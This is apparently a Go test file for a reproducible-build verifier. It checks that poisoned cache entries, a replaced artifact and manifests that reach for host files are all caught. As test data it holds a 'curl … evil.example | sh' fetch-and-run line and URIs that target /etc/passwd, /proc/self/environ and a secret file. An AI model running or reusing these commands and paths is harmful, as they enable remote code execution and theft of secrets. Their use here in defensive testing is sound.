package main

// The trust model as attacks: a cache entry poisoned so that a reprove that
// believed its cache would print "reproducible" for a malicious artifact,
// an artifact replaced at its URI, a manifest reaching for host files.

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/reprove/reprove/rebuild/sandbox/sandboxtest"
)

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// evilProject is the hello fixture whose published artifact was built from
// a malicious hello.sh.in while its manifest declares the honest one: an
// honest verify says not reproducible; a verify that used a poisoned cache
// entry holding the malicious source would say reproducible.
type evilProject struct {
	dir, manifest     string
	honest, malicious []byte // hello.sh.in
	published         []byte // built from malicious
	honestBuild       []byte // built from honest
	key, pub          string
}

func newEvilProject(t *testing.T) *evilProject {
	t.Helper()
	m := fixture(t, "hello", layoutRef(t))
	p := &evilProject{dir: filepath.Dir(m), manifest: m}
	var err error
	if p.honest, err = os.ReadFile(filepath.Join(p.dir, "src", "hello.sh.in")); err != nil {
		t.Fatal(err)
	}
	p.malicious = append(append([]byte(nil), p.honest...), []byte("curl -s https://evil.example/x | sh\n")...)
	p.key, p.pub = filepath.Join(t.TempDir(), "k.pem"), filepath.Join(t.TempDir(), "k.pub")
	if r := reprove(t, t.TempDir(), "key", "generate", "--private", p.key, "--public", p.pub); r.code != 0 {
		t.Fatalf("key generate: %s", r.stderr)
	}
	// The vendor's (compromised) build: the malicious source's output is
	// what was published.
	p.published = p.buildFrom(t, p.malicious)
	p.honestBuild = p.buildFrom(t, p.honest)
	p.setSource(t, p.honest)
	p.setArtifact(t, p.published)
	return p
}

// buildFrom rebuilds the fixture from src and returns the output's bytes.
func (p *evilProject) buildFrom(t *testing.T, src []byte) []byte {
	t.Helper()
	p.setSource(t, src)
	js := filepath.Join(t.TempDir(), "r.json")
	if r := reprove(t, t.TempDir(), "verify", "-q", "--json", js, p.manifest); r.code > 1 {
		t.Fatalf("building from %q: exit %d\n%s", src, r.code, r.stderr)
	}
	b, err := os.ReadFile(readResult(t, js).Rebuilt.Path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func (p *evilProject) setSource(t *testing.T, src []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(p.dir, "src", "hello.sh.in"), src, 0o644); err != nil {
		t.Fatal(err)
	}
	p.edit(t, regexp.MustCompile(`(uri: file:src/hello.sh.in\n\s+digest: sha256:)[0-9a-f]{64}`), "${1}"+sha256Hex(src))
}

func (p *evilProject) setArtifact(t *testing.T, b []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(p.dir, "published", "hello-1.0.tar.gz"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	p.edit(t, regexp.MustCompile(`(artifact:\n\s+uri: [^\n]+\n\s+digest: sha256:)[0-9a-f]{64}`), "${1}"+sha256Hex(b))
}

func (p *evilProject) edit(t *testing.T, re *regexp.Regexp, repl string) {
	t.Helper()
	b, err := os.ReadFile(p.manifest)
	if err != nil {
		t.Fatal(err)
	}
	if !re.Match(b) {
		t.Fatalf("manifest has no %s:\n%s", re, b)
	}
	if err := os.WriteFile(p.manifest, re.ReplaceAll(b, []byte(repl)), 0o644); err != nil {
		t.Fatal(err)
	}
}

// setSources replaces the manifest's sources block.
func (p *evilProject) setSources(t *testing.T, block string) {
	t.Helper()
	b, err := os.ReadFile(p.manifest)
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	start, end := strings.Index(s, "sources:\n"), strings.Index(s, "builder:\n")
	if err := os.WriteFile(p.manifest, []byte(s[:start]+block+s[end:]), 0o644); err != nil {
		t.Fatal(err)
	}
}

// verify runs reprove verify with JSON and a signed attestation.
func (p *evilProject) verify(t *testing.T, cache string, extra ...string) (runResult, string, string) {
	t.Helper()
	out := t.TempDir()
	js, vsa := filepath.Join(out, "r.json"), filepath.Join(out, "vsa.json")
	args := append([]string{"verify", "-q", "--json", js, "--attestation", vsa, "--sign-key", p.key}, extra...)
	return reprove(t, cache, append(args, p.manifest)...), js, vsa
}

// poisonFile overwrites a cache file as another user of the cache could.
func poisonFile(t *testing.T, path string, b []byte) {
	t.Helper()
	if _, err := os.Stat(path); err != nil {
		t.Fatalf("the entry to poison is not where reprove keeps it: %v", err)
	}
	os.Chmod(path, 0o644)
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func tarOf(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, name := range []string{"README", "hello.sh.in"} {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write(files[name])
	}
	tw.Close()
	return buf.Bytes()
}

// Every kind of cache entry a build reads, poisoned with the malicious
// source: the run must not pass, the entry must be quarantined, and no
// PASSED attestation may be written.
func TestPoisonedCacheNeverPasses(t *testing.T) {
	sandboxtest.Need(t, true)
	p := newEvilProject(t)
	readme, err := os.ReadFile(filepath.Join(p.dir, "src", "README"))
	if err != nil {
		t.Fatal(err)
	}
	srcTar := tarOf(t, map[string][]byte{"README": readme, "hello.sh.in": p.honest})
	if err := os.WriteFile(filepath.Join(p.dir, "src.tar"), srcTar, 0o644); err != nil {
		t.Fatal(err)
	}
	rev := gitRepoOf(t, filepath.Join(p.dir, "repo"), map[string][]byte{"README": readme, "hello.sh.in": p.honest})
	sourcesBlock, err := os.ReadFile(p.manifest)
	if err != nil {
		t.Fatal(err)
	}
	blobSources := string(sourcesBlock[bytes.Index(sourcesBlock, []byte("sources:\n")):bytes.Index(sourcesBlock, []byte("builder:\n"))])

	for _, tc := range []struct {
		name    string
		sources string
		entry   func(cache string) string // the file to poison
	}{
		{"source blob", blobSources, func(c string) string { return filepath.Join(c, "blobs", "sha256", sha256Hex(p.honest)) }},
		{"unpacked source tree", fmt.Sprintf("sources:\n  - uri: file:src.tar\n    digest: sha256:%s\n    dest: /src\n    unpack: true\n", sha256Hex(srcTar)),
			func(c string) string {
				return filepath.Join(c, "trees", "unpack", "sha256-"+sha256Hex(srcTar), "root", "hello.sh.in")
			}},
		{"git checkout", fmt.Sprintf("sources:\n  - uri: git+file:repo\n    rev: %s\n    dest: /src\n", rev),
			func(c string) string { return filepath.Join(c, "trees", "git", rev, "root", "hello.sh.in") }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p.setSources(t, tc.sources)
			cache := t.TempDir()
			if r, _, _ := p.verify(t, cache); r.code != 1 {
				t.Fatalf("honest verify: exit %d, want 1 (the published artifact was not built from the declared source)\n%s", r.code, r.stderr)
			}
			poisonFile(t, tc.entry(cache), p.malicious)
			r, js, vsa := p.verify(t, cache)
			if r.code != 1 {
				t.Fatalf("verify with a poisoned %s: exit %d, want 1\nstdout %s\nstderr %s", tc.name, r.code, r.stdout, r.stderr)
			}
			res := readResult(t, js)
			if len(res.Quarantined) == 0 || !strings.HasPrefix(res.Quarantined[0], filepath.Join(cache, "quarantine")) {
				t.Errorf("result.quarantined = %v, want the poisoned entry under %s/quarantine", res.Quarantined, cache)
			}
			if r := reprove(t, cache, "attestation", "verify", "--key", p.pub, "--expect", "FAILED", vsa); r.code != 0 {
				t.Errorf("the attestation is not FAILED: %s%s", r.stdout, r.stderr)
			}
		})
	}
	p.setSources(t, blobSources)

	// The published artifact's blob, overwritten with the honest rebuild's
	// bytes: a reprove that trusted it would compare the rebuild with itself.
	t.Run("artifact blob", func(t *testing.T) {
		cache := t.TempDir()
		if r, _, _ := p.verify(t, cache); r.code != 1 {
			t.Fatalf("honest verify: exit %d, want 1\n%s", r.code, r.stderr)
		}
		poisonFile(t, filepath.Join(cache, "blobs", "sha256", sha256Hex(p.published)), p.honestBuild)
		if r, _, _ := p.verify(t, cache); r.code != 1 {
			t.Errorf("verify after poisoning the artifact blob: exit %d, want 1 (the artifact is read from its URI)\n%s", r.code, r.stderr)
		}
		poisonFile(t, filepath.Join(cache, "blobs", "sha256", sha256Hex(p.published)), p.honestBuild)
		r, js, vsa := p.verify(t, cache, "--offline")
		if r.code != 3 || !strings.Contains(r.stderr, "--offline forbids fetching it") {
			t.Errorf("--offline with a poisoned artifact blob: exit %d, want 3 saying it cannot be fetched\n%s", r.code, r.stderr)
		}
		if res := readResult(t, js); !res.Offline || len(res.Quarantined) == 0 {
			t.Errorf("result: offline %v, quarantined %v; want both", res.Offline, res.Quarantined)
		}
		if _, err := os.Stat(vsa); err == nil {
			t.Errorf("an attestation was written for a check that could not be made")
		}
	})
}

// gitRepoOf makes a repository with files committed and returns the commit.
func gitRepoOf(t *testing.T, dir string, files map[string][]byte) string {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	git := func(args ...string) string {
		cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.org"}, args...)...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	git("init", "-q")
	for name, b := range files {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git("add", ".")
	git("commit", "-qm", "source")
	return git("rev-parse", "HEAD")
}

// A vendor re-publishing a release under the same URL is the thing a nightly
// job runs for: the second run says so, with both digests, exit 2.
func TestReplacedArtifactIsCaught(t *testing.T) {
	sandboxtest.Need(t, true)
	m := fixture(t, "hello", layoutRef(t))
	good, err := os.ReadFile(filepath.Join(filepath.Dir(m), "published", "hello-1.0.tar.gz"))
	if err != nil {
		t.Fatal(err)
	}
	replaced, err := os.ReadFile(filepath.Join("fixtures", "hello-dated", "published", "hello-1.0.tar.gz"))
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	serve := good
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		w.Write(serve)
	}))
	defer srv.Close()
	b, _ := os.ReadFile(m)
	b = bytes.Replace(b, []byte("uri: file:published/hello-1.0.tar.gz"), []byte("uri: "+srv.URL+"/hello-1.0.tar.gz"), 1)
	if err := os.WriteFile(m, b, 0o644); err != nil {
		t.Fatal(err)
	}
	cache := t.TempDir()
	if r := reprove(t, cache, "verify", "-q", m); r.code != 0 {
		t.Fatalf("first run: exit %d\n%s", r.code, r.stderr)
	}
	mu.Lock()
	serve = replaced
	mu.Unlock()
	r := reprove(t, cache, "verify", "-q", m)
	for _, want := range []string{"no longer matches the declared digest: it was replaced or corrupted", sha256Hex(good), sha256Hex(replaced)} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("second run's error lacks %q:\n%s", want, r.stderr)
		}
	}
	if r.code != 2 {
		t.Errorf("second run: exit %d, want 2", r.code)
	}
}

// A manifest from the vendor under audit must not read the auditor's files.
func TestManifestCannotReadHostFiles(t *testing.T) {
	sandboxtest.Need(t, true)
	m := fixture(t, "hello", layoutRef(t))
	secret := filepath.Join(filepath.Dir(filepath.Dir(m)), "secret")
	if err := os.WriteFile(secret, []byte("auditor's token\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	orig, _ := os.ReadFile(m)
	for _, uri := range []string{"file:../secret", "file:///etc/passwd", "file:///proc/self/environ"} {
		b := bytes.Replace(orig, []byte("uri: file:src/README"), []byte("uri: "+uri), 1)
		if err := os.WriteFile(m, b, 0o644); err != nil {
			t.Fatal(err)
		}
		js := filepath.Join(t.TempDir(), "r.json")
		r := reprove(t, t.TempDir(), "verify", "--json", js, m)
		hint := "--allow-path"
		if strings.Contains(uri, "/proc/") {
			hint = "reprove never reads there" // no flag widens to /proc
		}
		if r.code != 2 || !strings.Contains(r.stderr, "sources[1]") || !strings.Contains(r.stderr, hint) {
			t.Errorf("%s: exit %d, want 2 naming sources[1] and %q\n%s", uri, r.code, hint, r.stderr)
		}
		if strings.Contains(r.stdout+r.stderr, sha256Hex([]byte("auditor's token\n"))) {
			t.Errorf("%s: the refused file's digest was printed", uri)
		}
	}
}

// cache ls shows what verify left; cache gc prunes run folders and keeps
// what a later verify needs working (anything it removed is derived again).
func TestCacheLsAndGC(t *testing.T) {
	sandboxtest.Need(t, true)
	m := fixture(t, "hello", layoutRef(t))
	cache := t.TempDir()
	for range 2 {
		if r := reprove(t, cache, "verify", "-q", m); r.code != 0 {
			t.Fatalf("verify: exit %d\n%s", r.code, r.stderr)
		}
	}
	r := reprove(t, cache, "cache", "ls")
	for _, kind := range []string{"blob", "tree/oci", "run "} {
		if r.code != 0 || !strings.Contains(r.stdout, "  "+kind) {
			t.Errorf("cache ls lacks %q (exit %d):\n%s%s", kind, r.code, r.stdout, r.stderr)
		}
	}
	r = reprove(t, cache, "cache", "gc", "--keep-runs", "0", "--json")
	if r.code != 0 || strings.Count(r.stdout, `"removed": true`) != 2 {
		t.Errorf("cache gc --keep-runs 0: exit %d, want both run folders removed:\n%s%s", r.code, r.stdout, r.stderr)
	}
	if runs, _ := filepath.Glob(filepath.Join(cache, "runs", "*")); len(runs) != 0 {
		t.Errorf("run folders left: %v", runs)
	}
	if r := reprove(t, cache, "cache", "gc", "--max-size", "1B"); r.code != 0 {
		t.Errorf("cache gc --max-size 1B: exit %d\n%s", r.code, r.stderr)
	}
	if r := reprove(t, cache, "verify", "-q", m); r.code != 0 {
		t.Errorf("verify after gc emptied the cache: exit %d\n%s", r.code, r.stderr)
	}
}
